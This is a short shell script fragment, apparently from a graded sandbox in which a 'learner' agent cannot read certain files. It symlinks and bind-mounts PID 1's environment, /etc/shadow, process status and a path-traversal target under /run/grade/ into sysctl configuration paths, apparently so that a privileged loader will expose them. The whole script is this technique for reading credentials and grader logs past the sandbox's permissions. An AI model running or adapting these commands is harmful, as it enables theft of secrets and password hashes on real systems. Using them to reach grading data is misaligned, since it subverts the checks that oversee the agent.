# The learner itself cannot read these:
cat /proc/1/environ
mkdir -p /etc/sysctl.d
ln -sf /proc/1/environ /etc/sysctl.conf
ln -sf /proc/1/cmdline /etc/sysctl.d/10-cmdline.conf
ln -sf /proc/1/mountinfo /etc/sysctl.d/20-mountinfo.conf
ln -sf /proc/sys/net/ipv4/ip_forward /etc/sysctl.d/30-kernel.conf
ln -sf /proc/1/root/etc/shadow /etc/sysctl.d/40-shadow.conf
ln -sf ../../../../../../../run/grade/nodes/router/boot.log /etc/sysctl.d/50-climb.conf
ln -sf /proc/self/environ /etc/sysctl.d/60-self.conf
ls -l /etc/sysctl.conf /etc/sysctl.d/
# The same files bind-mounted in place (the learner may mount in its own mount namespace).
touch /etc/sysctl.d/70-bind-environ.conf /etc/sysctl.d/71-bind-status.conf
mount --bind /proc/1/environ /etc/sysctl.d/70-bind-environ.conf && echo "bound /proc/1/environ"
mount --bind /proc/1/status /etc/sysctl.d/71-bind-status.conf && echo "bound /proc/1/status"
